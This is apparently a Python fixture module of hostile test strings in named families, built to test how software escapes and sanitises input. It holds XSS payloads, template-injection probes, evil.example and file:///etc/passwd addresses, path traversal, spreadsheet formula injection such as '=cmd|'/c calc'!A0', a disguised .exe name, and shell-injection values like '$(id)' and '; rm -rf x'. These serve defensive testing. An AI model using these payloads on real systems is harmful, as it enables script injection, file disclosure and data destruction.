r"""Strings that are meant to break something, in families; each family says what makes it hostile.

Script that runs sets `__pwn` or calls `alert`, so that the browser notices it wherever it runs.
Control characters, marks and surrogates are written as escapes: this file is plain text itself.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass

_PWN = "__pwn=1;alert(1)"


@dataclass(frozen=True)
class Family:
    """Strings of one kind, and the property that makes any string one of them."""

    name: str
    hostile: Callable[[str], bool]
    strings: tuple[str, ...]


def _has(pattern: str) -> Callable[[str], bool]:
    return lambda text: re.search(pattern, text) is not None


def _category(*wanted: str) -> Callable[[str], bool]:
    return lambda text: any(unicodedata.category(c) in wanted for c in text)


MARKUP = (
    f"<script>{_PWN}</script>", f"<img src=x onerror={_PWN}>", f"<svg onload={_PWN}>",
    f"<svg><script>{_PWN}</script></svg>", f"<body onload={_PWN}>",
    f"<iframe srcdoc='<script>{_PWN}</script>'>",
    f"<details open ontoggle={_PWN}><summary>x</summary></details>", "<u>underlined</u>",
    "<marquee>moving</marquee>", f"<video><source onerror={_PWN}></video>",
    "<x-evil>own element</x-evil>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
    f"<math><mtext><img src=x onerror={_PWN}>", f"<input autofocus onfocus={_PWN}>",
    "<plaintext>", "<template><x-evil></x-evil></template>", "<!doctype html>",
    f"<a href=\"javascript:{_PWN}\">x</a>", "<textarea>", "<title>", "<noscript>", "<frameset>",
    "<select><option>", "<table><tr><td>", "<p", "<", ">", "&", "a & b < c > d", "&lt;script&gt;",
    "&#60;x-evil&#62;", "&amp;amp;", "&nbsp;", "&notanentity;", "&#0;", "&#x110000;",
    "<?xml version='1.0'?>", "<?php echo 1 ?>", "<%= 1 %>", "<\x73cript>x",
)  # fmt: skip
ENDINGS = (
    "</script>", "</SCRIPT>", "</script >", "</script\n>", "</scr",
    f"</script><script>{_PWN}</script>", f"'</script><img src=x onerror={_PWN}>", "</style>",
    "</title>", "</textarea>", "</svg>", "</text>", "</g></svg><x-evil/>",
    "</main></body></html>", "</template>", "</noscript><x-evil>", "</p></div></section>", "]]>",
    "]]><x-evil/>", "</figure>", "</iframe>", "</metadata>", "</desc><script/>",
)  # fmt: skip
COMMENTS = (
    "<!--", "-->", "--!>", "<!-- x", "--><x-evil>", f"--><script>{_PWN}</script><!--",
    "<!--<script>", "<!--><img src=x>", "<!---->", "<!--body-->", "<!-- title -->",
    "<![CDATA[x]]>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "/* x */", "*/ x /*",
    "*/}body{display:none}/*", "<!--[if IE]><x-evil><![endif]-->", "a --> b <!-- c",
)  # fmt: skip
ATTRIBUTES = (
    '"', "'", "`", f'" onmouseover="{_PWN}', f"' onfocus='{_PWN}' x='",
    f'"><script>{_PWN}</script>', "'><x-evil>", f'" autofocus onfocus={_PWN} x="',
    '" style="position:fixed;inset:0', "' /><x-evil x='", f"`onload={_PWN}`", 'x" id="map-data',
    'x" data-code="370701', '"/><use href="//evil.example/x#y"/>', "\\\"", "\\'", "a\"b'c`d",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{# x #}", "{{ config }}", "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}", "${alert(1)}", "${7*7}", "#{7*7}", "{0}", "{name}",
    "{title.__class__}", "{}", "{{}}", "%s", "%(name)s", "%n%n%n", "$title", "${title}", "{", "}",
    "{{", "}}", "{{ self._TemplateReference__context }}", "{n}", "$&", "$1", "$`", "\\g<0>",
    "\\1", "{%", "%}", "<<title>>", "@@title@@", "{value:>1000000000}",
)  # fmt: skip
SCRIPT = (
    f"';{_PWN};//", f'";{_PWN};//', "\\u003cscript\\u003e", "\\x3cx-evil\\x3e", "\\", "\\\\",
    "\\n", "\\u2028", "//", "`${x}`", "'+alert(1)+'", '"+alert(1)+"', "});alert(1);({",
    "\u2028alert(1)\u2028", "\u2029alert(1)", "a\u2028b", "a\u2029b", "*/alert(1)/*",
    "\\';alert(1)//", "NaN\\", '{"a":1}\\', '"}]}\\',
)  # fmt: skip
ADDRESSES = (
    f"javascript:{_PWN}", f"JaVaScRiPt:{_PWN}", f"java\tscript:{_PWN}", f"javascript://%0a{_PWN}",
    f"data:text/html,<script>{_PWN}</script>", "vbscript:x", "//evil.example/x",
    "https://evil.example/", "http://evil.example", f"https://x--><img src=x onerror={_PWN}>",
    "https://x;script-src * 'unsafe-inline'", "https://x 'unsafe-eval'",
    "https://x, default-src *", "https://user:password@evil.example",
    "https://x/\"onload=alert(1)", "file:///etc/passwd", "https://[::1]:80/",
    "https://x\\@evil.example", "https://x?a=b&c=d#measure=e", "//x; frame-ancestors *",
    "https:evil.example", "url(//evil.example/x)", "blob:https://evil.example/x",
    "https://\u0430pple.example/", "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "~/x",
    "C:\\x", "x/../../y", "./..", "..", "%2e%2e%2f", "mailto:x@evil.example?subject=<x-evil>",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/c calc'!A0", '=HYPERLINK("//evil.example","x")',
    "=IMPORTXML(1,2)", "+cmd|x!A0", "-2+3+cmd|x!A0", "@x", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\ufeff=1+1", "\u200b=1+1",
    "\u00a0=1+1", "\u2212" "1", "\u3000=1+1", "\ufe631", "\ufe621", "\ufe661", "\ufe6bx", "'=1+1",
    '"=1+1"', ";=1+1", ",=1+1", "|=1+1", "=\u202e1", "%0A=1",
)  # fmt: skip
CONTROLS = (
    "a\x00b", "\x00", "a\x01b", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "a\x1bb", "\x1b[31mred",
    "\x1b]0;title\x07", "a\x1fb", "a\x7fb", "a\x80b", "a\x85b", "a\x9fb", "a\nb", "a\rb",
    "a\r\nb", "a\tb", "\n", "a\n\nb", "x\x1c y", "a\u00adb", "a\x1db", "a\u0600b", "a\x04b",
    "\x1b[2J", "\x9b31m", "a\x1eb", "a\x0eb", "\U000e0001x", "\U000e0041\U000e0042", "a\u180eb",
)  # fmt: skip
DIRECTIONS = (
    "\u202eevil", "\u202dx\u202c", "\u2066x", "\u2067x\u2069", "\u200ex", "\u200fx",
    "a\u202eb<script>", "\u2068\u2068\u2068x", "\u05d0\u05d1\u05d2 abc",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\u061cx", "x\u202egnp.exe",
)  # fmt: skip
UNSEEN = (
    "a\u200bb", "\u200b", "a\u200cb", "a\u200db", "a\u2060b", "\ufeffa", "a\ufeffb", "\u3164",
    "\u115fx", "a\u034fb", "\u00a0", "\u3000", "a\u2003b", "a\u202fb", "\u2800", "\ufffex",
    "\uffffx", "\ufffdx", "\ufdd0x", "\ue000", "a\ue000b", "\uf8ffx", "\U0010ffffx", "\U000f0000",
    "\U0001fffe", "\u00ff\u00fe", "\u1680x",
)  # fmt: skip
MARKS = (
    "a\u0301\u0301", "e\u0301", "\u0301", "\u0301a",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349",
    "o" + "\u0308" * 60, "\u0e01\u0e49\u0e49\u0e49", "\u20e0x", "x\u20dd", "1\ufe0f\u20e3",
    "\u0928\u093f", "\u1100\u1161\u11a8", "n\u0303o\u0303", "\u0f40\u0f90\u0fb5", "A\u030a",
    "\u05e9\u05c1",
)  # fmt: skip
SURROGATES = (
    "\ud800", "\udfff", "a\ud83d", "\ude00b", "a\udc80b", "\ud83d\ud83d", "\udc00\ud800",
    "x\udcffy",
)  # fmt: skip
BRACKETS = (
    "[/]", "[red]", "[/red]", "[bold", "[link=//evil.example]x[/link]", "[red]x[/]", "[[x]]",
    "[/][/][/]", "\\[x]", "[@click=x]y[/]", "[blink]x", "[black on black]x", "[not a style]",
    "x[/bold]", "[", "]", "[]", ":skull:[/]", "[/ ]", "[on red]",
)  # fmt: skip
LENGTHS = (
    "x" * 80, "W" * 200, "\u957f" * 120, "https://www.example.org/" + "abc/" * 20, "x" * 2000,
    "word " * 200, "\u200d".join("ab" * 40), "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 12,
    "1" * 90, "_" * 90, "9" * 400, "A-" * 60, "/" * 90, "." * 90, "\u00a0".join(["abcd"] * 20),
    "<" * 100,
)  # fmt: skip
NAMES = (
    "constructor", "__proto__", "prototype", "toString", "valueOf", "hasOwnProperty",
    "isPrototypeOf", "length", "__class__", "__init__", "name", "code", "kind", "host",
    "area_km2", "approximate", "a_class", "a_color", "id", "geometry", "properties", "map",
    "map-data", "main", "svg", "table", "legend", "status", "stage", "null", "undefined", "NaN",
    "true", "None", "default", "watch", "arguments", "eval", "this", "CON", "NUL", "aux", "title",
    "value", "values", "data", "labels", "controls", "search", "row", "key", "key_state", "index",
    "label_lon", "label_lat", "name_en", "districts", "measures", "toLocaleString", "Infinity",
)  # fmt: skip
SYNTAX = (
    '"""', "'''", "\n[plates]\nname = 1", "= ", "# comment", "a,b", "a;b", 'a"b,c', '"a""b"',
    "a\tb\tc", "{\"type\":1}", "- x\n- y", "!!python/object:os", "a: b", "*", "?", "a|b",
    "\\u0000", "$(id)", "`id`", "; rm -rf x", "%PDF-1.4", "(x) Tj", "<</S/JavaScript>>", "\\)",
    "stream\nendstream", "%%EOF", "0 0 m", "/Name#20x", "(unbalanced", "a)b(c",
    "\u3001\uff1b\u3002", "16\u00b2", "81.8\u2460", "\u2168", "\ufb01", "\u2126", "\u212b",
    "\uff21\uff22", "\u00bd", "1e999", "0x10", "1_000", "-0", "\u0661\u0662",
)  # fmt: skip


def _is_syntax(text: str) -> bool:
    """Tell whether CSV, TOML, YAML, PDF, a shell or NFKC reads more into a text than letters."""
    marked = re.search(r"[\"'#=,;:|*?$`()\\%/<\[{!()\t\n]|^\d[ \w.+-]*$|^-", text)
    return bool(marked) or unicodedata.normalize("NFKC", text) != text or not text.isascii()


def _is_unseen(text: str) -> bool:
    """Tell whether a text has characters without a shape or meaning of their own."""
    return not text.isascii() and _category("Cf", "Co", "Cn", "Zs", "Lo", "So", "Ll")(text)


_SPECIAL = _category("Cc", "Cf", "Zl", "Zp")
FAMILIES = (
    Family("markup", _has("[<>&]"), MARKUP),
    Family("endings", _has(r"</|\]\]>"), ENDINGS),
    Family("comments", _has(r"<!|--!?>|/\*|\*/"), COMMENTS),
    Family("attributes", _has("[\"'`]"), ATTRIBUTES),
    Family("templates", _has(r"[{}%$@]|<<|\\[g1]"), TEMPLATES),
    Family("script", _has("[\"'`\\\\();\u2028\u2029]|//|\\*/"), SCRIPT),
    Family("addresses", _has(r":|//|\.\.|%2e|^[/~]"), ADDRESSES),
    Family("formulas", _has("[=+\\-@\uff1d\uff0b\uff0d\uff20\u2212\ufe61-\ufe6b]"), FORMULAS),
    Family("controls", _SPECIAL, CONTROLS),
    Family(
        "directions",
        lambda s: any(
            unicodedata.bidirectional(c) in {"R", "AL", "RLO", "LRO", "RLI", "LRI", "FSI", "RLE"}
            or c in "\u200e\u200f\u061c"
            for c in s
        ),
        DIRECTIONS,
    ),
    Family("unseen", _is_unseen, UNSEEN),
    Family("marks", _category("Mn", "Me", "Mc", "Lo"), MARKS),
    Family("surrogates", _category("Cs"), SURROGATES),
    Family("brackets", _has(r"[\[\]]"), BRACKETS),
    Family("lengths", lambda s: len(s) >= 60, LENGTHS),
    Family("names", _has(r"^[A-Za-z_][\w-]*$"), NAMES),
    Family("syntax", _is_syntax, SYNTAX),
)  # fmt: skip


def all_strings() -> tuple[tuple[str, str], ...]:
    """Return every string once, with its family's name."""
    seen: dict[str, str] = {}
    for family in FAMILIES:
        for text in family.strings:
            seen.setdefault(text, family.name)
    return tuple((family, text) for text, family in seen.items())
